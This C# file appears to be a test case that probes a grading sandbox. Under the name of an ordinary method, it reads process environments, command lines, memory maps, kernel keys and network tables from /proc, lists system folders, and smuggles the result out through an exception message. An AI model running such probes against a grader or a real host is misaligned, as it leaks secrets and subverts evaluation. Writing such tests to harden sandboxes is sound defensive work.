// Attack: tells what /proc says of the grader: environment, command line, mounts, memory, open files.
// Expect: threw InvalidOperationException in IdlePageCost
using System.IO;
using System.Text;

internal static class Secrets
{
    public static string Found(string text) => text.Contains("canary", StringComparison.Ordinal) ? text : "nothing found";
}

public sealed partial class Attack
{
    public double IdlePageCost(int taxPercent)
    {
        StringBuilder told = new();
        foreach (string file in new[] { "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/proc/1/maps", "/proc/kcore", "/proc/keys", "/proc/net/tcp" })
        {
            try
            {
                told.Append(File.ReadAllText(file));
            }
            catch (Exception refused)
            {
                told.Append(refused.GetType().Name);
            }
        }

        foreach (string folder in new[] { "/proc/1/root/root", "/proc/1/cwd", "/proc/1/fd", "/proc/self/root/home", "{CLASS}", "/sys", "/dev", "/run", "/etc", "/var" })
            told.Append(Directory.Exists(folder) ? string.Join(" ", Directory.GetFileSystemEntries(folder)) : "");
        throw new InvalidOperationException(Secrets.Found(told.ToString()));
    }
}
